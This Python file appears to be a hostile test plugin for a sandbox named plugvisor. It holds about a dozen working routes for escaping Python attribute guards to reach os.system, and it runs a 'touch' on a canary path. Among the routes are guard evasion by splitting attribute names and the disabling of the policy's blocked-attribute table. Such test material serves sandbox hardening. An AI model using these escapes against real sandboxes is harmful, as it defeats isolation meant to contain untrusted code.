"""Hostile test plugin: Reaches object.__subclasses__() or a real module's namespace by one stdlib route that reads attributes by name, then runs a command."""

import enum
import functools
import operator
import string
import typing

SUBCLASSES = "__subc" + "lasses__"  # spelled at run time: the load-time guard would refuse it


class _Annotated:
    x: "getattr"  # typing evaluates it in a namespace without __builtins__: the real ones


class _ClaimsSys:
    m: "modules"  # evaluated in sys.modules[__module__].__dict__


_ClaimsSys.__module__ = "sys"


def _wrapper():
    pass


def _subclasses(route):
    """object.__subclasses__() (a list of every class), by ``route``."""
    if route == "attrgetter_type":
        return type(operator.attrgetter("real"))(SUBCLASSES)(object)()
    if route == "methodcaller_type":
        return type(operator.methodcaller("real"))(SUBCLASSES)(object)
    if route == "formatter_base":
        # The guarded Formatter was a subclass: the real one, one __mro__ step away.
        base = string.Formatter.__mro__[-2]
        return base().get_field("0." + SUBCLASSES, (object,), {})[0]()
    if route == "update_wrapper":
        functools.update_wrapper(_wrapper, object, assigned=(SUBCLASSES,), updated=())
        return vars(_wrapper)[SUBCLASSES]()
    if route == "lru_cache_dict":
        # The cache wrapper's __dict__ is updated from type.__dict__.
        return vars(functools.lru_cache(type))[SUBCLASSES](object)
    if route == "wraps_dict":
        wrapped = functools.wraps(object)(lambda: None)
        return vars(wrapped)["__getattribute__"](object, SUBCLASSES)()
    if route == "typing_class":
        return typing.get_type_hints(_Annotated)["x"](object, SUBCLASSES)()
    if route == "method_reduce":
        return [].append.__reduce__()[0](object, SUBCLASSES)()
    if route == "global_enum":
        # global_enum exports the members into sys.modules[__module__]: here the policy's
        # own table of blocked attributes becomes an empty frozenset.
        class Tables(frozenset, enum.Enum):
            BLOCKED_ATTRIBUTES = ()
            GUARDED_ATTRIBUTES = ("x",)

        Tables.__module__ = "plugvisor.sandbox.policy"
        try:
            enum.global_enum(Tables)
        except KeyError:
            pass  # no policy module in this process: nothing to switch off
        return getattr(object, SUBCLASSES)()
    raise ValueError(f"unknown route {route!r}")


def _modules(route):
    """The real sys.modules, by ``route``."""
    if route == "forwardref_module":
        return typing.ForwardRef("modules", module="sys")._evaluate(None, None, frozenset())
    if route == "module_claim":
        return typing.get_type_hints(_ClaimsSys)["m"]
    subclasses = _subclasses(route)
    importer = [c for c in subclasses if c.__name__ == "BuiltinImporter"][0]
    return importer.load_module("sys").modules


def _system(route):
    """The real os.system, by ``route``."""
    if route == "convert_read":
        # Enum._convert_ builds an enum from any named module's namespace.
        return enum.Enum._convert_("PvX", "os", lambda name: name == "system").system.value
    return _modules(route)["os"].system


class Plugin:
    def handle(self, request):
        rc = _system(request["route"])("/usr/bin/touch " + request["canary"])
        if rc != 0:
            raise OSError("system returned %d" % rc)
        return rc
